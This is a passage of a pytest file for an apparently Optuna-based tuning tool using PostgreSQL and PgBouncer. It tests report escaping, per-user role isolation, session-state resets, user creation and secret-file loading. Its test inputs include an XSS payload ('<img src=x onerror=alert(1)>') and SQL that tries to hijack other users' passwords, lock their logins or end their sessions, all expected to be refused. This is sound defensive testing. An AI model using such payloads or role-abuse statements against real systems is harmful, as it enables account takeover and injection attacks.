    prior = {"key": script, "suggestions": {img: 0.01}, "suggestion": img, "centre": 0.01, "low": 1e-3, "high": 0.1}
    study.set_user_attr(PRIOR_ATTR, {**prior, "width": 2.0, "computed_at": "", "seconds": 1.0, "host": img})
    dist = {
        "lr": optuna.distributions.FloatDistribution(1e-3, 1e-2, log=True),
        "tag": optuna.distributions.CategoricalDistribution([img]),
    }
    study.add_trial(
        create_trial(params={"lr": 5e-3, "tag": img}, distributions=dist, value=0.5, user_attrs={"halving_events": script})
    )
    cli_here("report", "--study", "reported", "--out", str(out), "--storage", url)
    page = (out / "index.html").read_text()
    assert "<script" not in page and "<img src=x" not in page, page
    assert page.count("&lt;script&gt;") >= 2 and "&lt;img src=x onerror=alert(1)&gt;" in page, page
    assert "trial 0: its attribute halving_events" in page and "on 7 images" in page


# -- issue 34: one login per user ---------------------------------------------------------------------
# Everyone shared the worker login: one user could change its password or make it read-only for all, and
# end anyone's session. Now each user logs in as a role of their own in the group that holds the rights.


def test_a_user_cannot_change_another_users_password_or_settings(shared: Shared) -> None:
    bob, worker, group = shared.roles["bob"][0], shared.roles["worker"][0], users_group(shared.db)
    with shared.connect("alice") as alice:
        for victim in (bob, worker):  # another person's login, and the deployment's
            refused_sql(alice, f"ALTER ROLE \"{victim}\" PASSWORD 'locked-out-{victim}'")
            refused_sql(alice, f'ALTER ROLE "{victim}" SET default_transaction_read_only = on')
            refused_sql(alice, f'ALTER ROLE "{victim}" IN DATABASE "{shared.db}" SET statement_timeout = 1')
            refused_sql(alice, f'ALTER ROLE "{victim}" NOLOGIN')
            refused_sql(alice, f'GRANT "{victim}" TO "{shared.roles["alice"][0]}"')
        # Nor can she make anyone a member of the group (the dashboard would write), or make roles at all.
        refused_sql(alice, f'GRANT "{group}" TO "{shared.roles["dashboard"][0]}"')
        refused_sql(alice, f'CREATE ROLE "{bob}_x" LOGIN')
        # PostgreSQL 15 lets a member SET ROLE to the group: as the group she changes the group's own
        # settings, which no login uses (settings apply at login, to the login role), and cannot let it log in.
        alice.execute(f'SET ROLE "{group}"')
        alice.execute(f'ALTER ROLE "{group}" SET default_transaction_read_only = on')
        refused_sql(alice, f'ALTER ROLE "{group}" LOGIN')
        refused_sql(alice, f"ALTER ROLE \"{bob}\" PASSWORD 'x'")
    try:
        with shared.connect("bob") as b, shared.connect("worker") as w:
            for conn in (b, w):  # both still log in, write, and are not read-only
                assert conn.execute("SHOW default_transaction_read_only").fetchone() == ("off",)
                conn.execute("INSERT INTO studies (study_name) VALUES (%s)", (f"by-{uuid.uuid4().hex[:6]}",))
    finally:
        assert shared.init().returncode == 0  # (the group's setting: a re-run of initdb resets it, next test)


def test_a_user_cannot_end_another_users_sessions(shared: Shared) -> None:
    with shared.connect("bob") as bob, shared.connect("worker") as worker, shared.connect("alice") as alice:
        for victim in (bob, worker):
            pid = victim.execute("SELECT pg_backend_pid()").fetchone()[0]  # type: ignore[index]
            for fn in ("pg_terminate_backend", "pg_cancel_backend"):
                refused_sql(alice, f"SELECT {fn}({pid})")
            assert victim.execute("SELECT 1").fetchone() == (1,)
        # Her own she may end: it is her own session to lose.
        own = alice.execute("SELECT pg_backend_pid()").fetchone()[0]  # type: ignore[index]
        with shared.connect("alice") as alice2:
            assert alice2.execute("SELECT pg_terminate_backend(%s)", (own,)).fetchone() == (True,)


def test_initdb_undoes_every_setting_users_put_on_the_roles(shared: Shared) -> None:
    """A user may set their own role read-only (and whoever holds the deployment's password, that one's);
    re-running initdb (storage/README.md) puts every role it made, and every user, back."""
    worker, alice, group = shared.roles["worker"][0], shared.roles["alice"][0], users_group(shared.db)
    try:
        for who, role in (("worker", worker), ("alice", alice)):
            with shared.connect(who) as conn:
                conn.execute(f'ALTER ROLE "{role}" IN DATABASE "{shared.db}" SET statement_timeout = 1')
                conn.execute(f'ALTER ROLE "{role}" SET default_transaction_read_only = on')
            with shared.connect(who) as conn:
                refused_sql(conn, "INSERT INTO studies (study_name) VALUES ('x')", psycopg.errors.ReadOnlySqlTransaction)
        with shared.connect("bob") as bob:
            bob.execute(f'SET ROLE "{group}"')
            bob.execute(f'ALTER ROLE "{group}" SET work_mem = 64')
    finally:
        again = shared.init()
    assert again.returncode == 0, again.stderr
    with shared.connect("owner") as conn:
        left = conn.execute(
            "SELECT r.rolname FROM pg_db_role_setting s JOIN pg_roles r ON r.oid = s.setrole WHERE r.rolname = ANY(%s)",
            ([worker, alice, group],),
        ).fetchall()
    assert left == []
    for who in ("worker", "alice"):
        with shared.connect(who) as conn:
            assert conn.execute("SHOW default_transaction_read_only").fetchone() == ("off",)
            conn.execute("INSERT INTO studies (study_name) VALUES (%s)", (f"after-{uuid.uuid4().hex[:6]}",))
    with shared.connect("dashboard") as conn:  # the dashboard's own guard is set again, not reset away
        assert conn.execute("SHOW default_transaction_read_only").fetchone() == ("on",)


def test_the_group_lets_every_user_work_every_study(shared: Shared, tmp_path: Path) -> None:
    """alice creates a study with her login; bob's worker works it with his (claims, heartbeats,
    checkpoints, the result); the dashboard's role reads it."""
    name = "alices"  # alice created it in the fixture, with `study create` and her own login
    ran = run_cli("worker", "--study", name, "--storage", shared.url("bob"), "--gpus", "none", cwd=tmp_path)
    assert "worker ran 1 trial(s)" in ran.stdout, ran.stderr[-2000:]
    (trial,) = optuna.load_study(study_name=name, storage=shared.url("dashboard")).trials
    assert trial.state == TrialState.COMPLETE
    with shared.connect("alice") as alice:  # and alice may stop or delete what bob's worker wrote
        assert alice.execute(
            "SELECT count(*) FROM trials t JOIN studies s USING (study_id) WHERE s.study_name = %s", (name,)
        ).fetchone() == (1,)
    cli_here("study", "delete", name, "--yes", "--storage", shared.url("alice"))


def test_db_add_user_is_the_owners_and_takes_the_password_from_the_environment_only(shared: Shared) -> None:
    owner = shared.url("owner")
    password = "pw-" + secrets.token_hex(12)
    name = f"kt_carol_{uuid.uuid4().hex[:8]}"
    try:
        added = cli_here(
            "db",
            "add-user",
            name,
            "--storage",
            owner,
            "--address",
            "db-host:6432",
            env=cli_env(KMNIST_TUNE_NEW_PASSWORD=password),
        )
        assert (
            added.stdout.splitlines()[-1]
            == f"give them: postgresql+psycopg://{name}:***@db-host:6432/{shared.db} (and the password, apart)"
        )
        assert password not in added.stdout + added.stderr
        with shared.connect("owner") as conn:
            row = conn.execute(
                "SELECT rolcanlogin, rolsuper, rolcreaterole, pg_has_role(oid, %s, 'MEMBER'), rolpassword "
                "FROM pg_authid WHERE rolname = %s",
                (users_group(shared.db), name),
            ).fetchone()
        assert row is not None and row[:4] == (True, False, False, True) and row[4].startswith("SCRAM-SHA-256$")
        # One line each: a user (not the owner) adding one, no password (no terminal), a role that is no user.
        cases = {
            f"role {shared.roles['alice'][0]} may not create roles": (
                shared.url("alice"),
                name,
                {"KMNIST_TUNE_NEW_PASSWORD": password},
            ),
            "no password for": (owner, name, {}),
            "is not a user of this database": (owner, shared.roles["dashboard"][0], {"KMNIST_TUNE_NEW_PASSWORD": password}),
            "shorter than 12 characters": (owner, name, {"KMNIST_TUNE_NEW_PASSWORD": "short"}),
        }
        for why, (url, who, env) in cases.items():
            line = error_line(cli_here("db", "add-user", who, "--storage", url, env=cli_env(**env), check=False))
            assert why in line and password not in line, line
        # No way to give it on the command line.
        assert "--password" not in cli_here("db", "add-user", "--help").stdout
    finally:
        with shared.connect("owner") as conn:
            conn.execute(f'DROP ROLE IF EXISTS "{name}"')


# -- issue 34: PgBouncer hands a server connection from one client to the next -------------------------


def test_session_state_one_client_leaves_never_reaches_the_next_client_of_pgbouncer() -> None:
    """On the suite's PgBouncer (transaction pooling, storage/pgbouncer/pool.ini): client A leaves a
    session-level SET, a session advisory lock and a prepared statement on its server connection; client B,
    given that same server connection next, sees none of them (pool.ini's server_reset_query_always)."""
    from conftest import PGBOUNCER

    admin = pg_admin()
    db = f"kt_leak_{uuid.uuid4().hex[:10]}"
    admin.execute(f'CREATE DATABASE "{db}"')  # a pool of its own, with nobody else's clients in it
    try:
        url = make_url(PGBOUNCER)
        dsn = {
            "host": url.host,
            "port": url.port,
            "user": url.username,
            "dbname": db,
            "autocommit": True,
            "prepare_threshold": None,
        }
        with psycopg.connect(**dsn) as a, psycopg.connect(**dsn) as b:  # type: ignore[arg-type]
            (pid,) = a.execute("SELECT pg_backend_pid()").fetchone()  # type: ignore[misc]
            a.execute("SET statement_timeout = '4242ms'")
            a.execute("SELECT set_config('kmnist.left', 'by-a', false)")
            a.execute("SELECT pg_advisory_lock(4242)")
            a.execute("PREPARE left_by_a AS SELECT 1")
            assert b.execute("SELECT pg_backend_pid()").fetchone() == (pid,), "B did not get A's server connection"
            state = b.execute(
                "SELECT current_setting('statement_timeout'), current_setting('kmnist.left', true),"
                " (SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND objid = 4242),"
                " (SELECT count(*) FROM pg_prepared_statements)"
            ).fetchone()
            fix = "the PgBouncer at 6432 runs an older pool.ini: `sudo scripts/pgbouncer-local` reloads it"
            assert state in (("0", "", 0, 0), ("0", None, 0, 0)), f"{state}: {fix}"
    finally:
        admin.execute(f'DROP DATABASE IF EXISTS "{db}" WITH (FORCE)')
        admin.close()


# -- issue 34: secrets from files (compose's and Kubernetes' secrets) -----------------------------------


def test_secret_files_become_the_secrets_and_leave_the_environment(tmp_path: Path) -> None:
    from kmnist_tune.secret_files import load_secret_files

    (tmp_path / "key").write_text(KEY + "\n")
    (tmp_path / "pw").write_text("p@ss word:/#\n")  # characters a URL must escape
    (tmp_path / "wandb").write_text("")
    env = {
        "KMNIST_TUNE_SIGNING_KEY_FILE": str(tmp_path / "key"),
        "WANDB_API_KEY_FILE": str(tmp_path / "wandb"),
        "KMNIST_TUNE_STORAGE": "postgresql+psycopg://kmnist_worker@pgbouncer:6432/kmnist",
        "KMNIST_TUNE_STORAGE_PASSWORD_FILE": str(tmp_path / "pw"),
    }
    load_secret_files(env)
    # an empty W&B key file: not set (offline runs); no *_FILE left for the slot processes to read again
    assert set(env) == {"KMNIST_TUNE_SIGNING_KEY", "KMNIST_TUNE_STORAGE"} and env["KMNIST_TUNE_SIGNING_KEY"] == KEY
    stored = make_url(env["KMNIST_TUNE_STORAGE"])
    assert (stored.username, stored.host, stored.port, stored.database) == ("kmnist_worker", "pgbouncer", 6432, "kmnist")
    assert make_url(env["KMNIST_TUNE_STORAGE"]).password == "p@ss word:/#"
    # One line each, the secret in none.
    (tmp_path / "two").write_text("a\nb\n")
    (tmp_path / "empty").write_text("")
    cases = {
        "both KMNIST_TUNE_SIGNING_KEY and KMNIST_TUNE_SIGNING_KEY_FILE are set": {
            "KMNIST_TUNE_SIGNING_KEY": KEY,
            "KMNIST_TUNE_SIGNING_KEY_FILE": str(tmp_path / "key"),
        },
        "cannot read it": {"KMNIST_TUNE_SIGNING_KEY_FILE": str(tmp_path / "none")},
        "is empty": {"KMNIST_TUNE_SIGNING_KEY_FILE": str(tmp_path / "empty")},
        "is not a file": {"KMNIST_TUNE_SIGNING_KEY_FILE": str(tmp_path)},
        "holds more than one line": {"KMNIST_TUNE_SIGNING_KEY_FILE": str(tmp_path / "two")},
        "KMNIST_TUNE_STORAGE is not": {"KMNIST_TUNE_STORAGE_PASSWORD_FILE": str(tmp_path / "pw")},
        "holds a password": {
            "KMNIST_TUNE_STORAGE": "postgresql://u:x@h/d",
            "KMNIST_TUNE_STORAGE_PASSWORD_FILE": str(tmp_path / "pw"),
        },
        "must name one": {"KMNIST_TUNE_STORAGE": "sqlite:///x.db", "KMNIST_TUNE_STORAGE_PASSWORD_FILE": str(tmp_path / "pw")},
    }
    for why, env in cases.items():
        line = error_line(cli_here("study", "list", env=cli_env(**env), check=False))
        assert why in line and "p@ss" not in line and KEY not in line, line


def test_a_signing_key_from_a_file_signs_and_refuses_as_the_variable_does(shared: Shared, tmp_path: Path) -> None:
    """compose's workers get KMNIST_TUNE_SIGNING_KEY_FILE: with it, an unsigned kept model is refused."""
    # (made with Optuna's API: `study create` reads every study's attributes, and a test above leaves one
    # that no decoder reads)
    from kmnist_tune.contract.load import parse_spec
    from kmnist_tune.contract.spec import spec_to_dict

    name = f"unsigned-file-{uuid.uuid4().hex[:6]}"
    study = optuna.create_study(study_name=name, storage=shared.storage(), direction="maximize")
    study.set_user_attr(SPEC_ATTR, spec_to_dict(parse_spec(tiny_spec(name))))
    good = {"weights.safetensors": b"w", "classes.csv": b"c", "model.json": b"{}"}
    ids = {name: str(uuid.uuid4()) for name in good}
    for name, data in good.items():
        shared.plant(ids[name], data)
    study.set_user_attr(MODEL_ATTR, {"trial": 0, "at": "now", "artifacts": ids, "sha256": {n: sha(d) for n, d in good.items()}})
    (tmp_path / "key").write_text(KEY + "\n")
    env = cli_env(KMNIST_TUNE_SIGNING_KEY_FILE=str(tmp_path / "key"))
    args = ("export", "--study", study.study_name, str(tmp_path / "u"), "--storage", shared.worker_url)
    assert "unsigned or not signed" in error_line(cli_here(*args, env=env, check=False))
